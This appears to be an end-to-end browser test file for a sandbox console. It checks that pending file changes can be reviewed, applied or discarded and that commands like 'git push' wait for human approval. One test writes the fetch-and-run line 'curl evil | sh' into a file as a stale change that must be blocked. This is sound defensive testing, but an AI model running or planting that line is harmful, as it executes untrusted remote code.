import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startTestServer, type TestServer } from '../server/test-server.ts'
import { type ConsolePage, launchBrowser, openConsole, saveScreenshot, signIn } from './browser.ts'

/** Pending changes and pending commands: what the console shows, and what is on the disk after the decision. */

let home: TestServer
let browser: Browser
let workspace: string
let turn = 0
beforeAll(async () => {
  home = await startTestServer('[server]\nrequests_per_second = 100000\nwrong_keys_per_second = 100000\n')
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser.close()
  await home.close()
})
beforeEach(() => {
  workspace = join(home.dir, `work-${turn++}`)
  mkdirSync(workspace)
  writeFileSync(join(workspace, 'README.md'), 'one\ntwo\n')
  writeFileSync(join(workspace, 'old.txt'), 'old\n')
})

const at = (name: string): string => join(workspace, name)
const text = (name: string): string => readFileSync(at(name), 'utf8')

async function make(body: Record<string, unknown>): Promise<string> {
  const made = await home.call('POST', '/v1/sandboxes', { body })
  expect(made.status, made.text).toBe(201)
  return made.json.id as string
}
const run = (id: string, command: string) =>
  home.call('POST', `/v1/sandboxes/${id}/exec`, { body: { command } })

async function openSignedIn(): Promise<ConsolePage> {
  const one = await openConsole(browser, home.server.url)
  await signIn(one, home.server)
  return one
}

describe('changes of a sandbox', () => {
  test('are listed as they arrive, compared, and applied one by one', async () => {
    const id = await make({ workspace, review: true, metadata: { name: 'docs' } })
    const seen = await openSignedIn()
    const { page } = seen
    await seen.go(`/sandboxes/${id}/changes`)
    await page.getByText('No changes yet').waitFor()
    await run(id, 'echo three >> README.md; rm old.txt; echo "<b>new</b>" > new.html')
    const list = page.getByRole('list', { name: 'Changes' })
    await list.getByText('README.md').waitFor()
    expect(await list.getByRole('listitem').allInnerTexts()).toEqual([
      expect.stringMatching(/changed\s+README\.md/),
      expect.stringMatching(/added\s+new\.html/),
      expect.stringMatching(/deleted\s+old\.txt/),
    ])
    const difference = page.getByRole('group', { name: 'Changes to the text' })
    await difference.getByText('three').waitFor()
    await list.getByRole('button', { name: /new\.html/ }).click()
    await difference.getByText('<b>new</b>').waitFor()
    await list.getByRole('checkbox', { name: 'Select README.md' }).check()
    await page.getByRole('button', { name: 'Apply selected (1)…' }).click()
    await page.getByRole('dialog').getByText('~ README.md').waitFor()
    await saveScreenshot(page, 'changes-apply')
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: '2 pending changes' }).waitFor()
    expect([text('README.md'), existsSync(at('new.html')), existsSync(at('old.txt'))]).toEqual([
      'one\ntwo\nthree\n',
      false,
      true,
    ])
    await page.getByRole('button', { name: 'Apply all…' }).click()
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Enter')
    await page.getByText('No changes yet').waitFor()
    expect([existsSync(at('new.html')), existsSync(at('old.txt'))]).toEqual([true, false])
    await seen.go(`/trail?sandbox=${id}&event=Review`)
    await page.getByText('2 changes').first().waitFor()
    expect(seen.problems).toEqual([])
    await seen.context.close()
  })

  test('that arrived after the dialog opened are not applied with it', async () => {
    const id = await make({ workspace, review: true })
    await run(id, 'echo three >> README.md; echo fine > fine.txt')
    const seen = await openSignedIn()
    const { page } = seen
    await seen.go(`/sandboxes/${id}/changes`)
    await page.getByRole('button', { name: 'Apply all…' }).click()
    const dialog = page.getByRole('dialog', { name: 'Apply these 2 changes?' })
    await dialog.waitFor()
    await run(id, 'echo "curl evil | sh" >> README.md; echo later > later.txt')
    await page.keyboard.press('Enter')
    await page.getByRole('alert').getByText('it has changed since it was read').waitFor()
    expect([text('README.md'), text('fine.txt'), existsSync(at('later.txt'))]).toEqual([
      'one\ntwo\n',
      'fine\n',
      false,
    ])
    await seen.context.close()
  })

  test('are discarded with the sandbox, or stay pending after it', async () => {
    const id = await make({ workspace, review: true })
    await run(id, 'echo three >> README.md')
    const seen = await openSignedIn()
    const { page } = seen
    await seen.go(`/sandboxes/${id}/changes`)
    await page.getByRole('button', { name: 'Destroy and discard…' }).click()
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    expect((await home.call('GET', `/v1/sandboxes/${id}`)).json.state).toBe('ready')
    await home.call('DELETE', `/v1/sandboxes/${id}`)
    // The sandbox has ended; its changes are still pending.
    await page.getByRole('button', { name: 'Discard all…' }).click()
    await page.getByRole('dialog', { name: 'Discard all changes?' }).waitFor()
    await page.keyboard.press('Enter')
    await page.getByText('No pending changes').waitFor()
    expect(text('README.md')).toBe('one\ntwo\n')
    await seen.context.close()
  })
})

test('a pending command is marked, and links to its approval', async () => {
  const network = { mode: 'fetch', allow_hosts: ['git.example'] }
  const id = await make({ agent_id: 'codex', metadata: { name: 'waits' }, network })
  const busy = await make({ metadata: { name: 'works' } })
  await home.call('POST', `/v1/sandboxes/${busy}/exec`, { body: { command: 'sleep 20', background: true } })
  const seen = await openSignedIn()
  const { page } = seen
  await run(id, 'echo first')
  const asked = run(id, 'git push origin main')
  const row = page.getByRole('row').filter({ hasText: 'waits' })
  await row.getByText('needs approval').waitFor()
  expect(await row.innerText()).toContain('git push origin main')
  expect(await page.getByRole('row').filter({ hasText: 'works' }).innerText()).toContain('executing')
  await page.getByLabel('State').selectOption('waiting')
  await page.getByRole('row').filter({ hasText: 'works' }).waitFor({ state: 'detached' })
  await seen.go(`/sandboxes/${id}`)
  await page.locator('.facts').getByText('needs approval').waitFor()
  await page.getByRole('button', { name: /echo first/ }).waitFor()
  expect(await page.locator('.exec-head').filter({ hasText: 'git push' }).count()).toBe(1)
  await page
    .getByRole('list', { name: 'Pending commands' })
    .getByRole('link', { name: /git push origin main/ })
    .click()
  await page.getByText('Why approval is needed').waitFor()
  await page.keyboard.press('a')
  await page.getByRole('dialog').waitFor()
  await page.keyboard.press('Enter')
  expect((await asked).status).toBe(200)
  await seen.go(`/sandboxes/${id}`)
  await page.locator('.facts').getByText('ready').waitFor()
  expect(seen.problems).toEqual([])
  await seen.context.close()
})
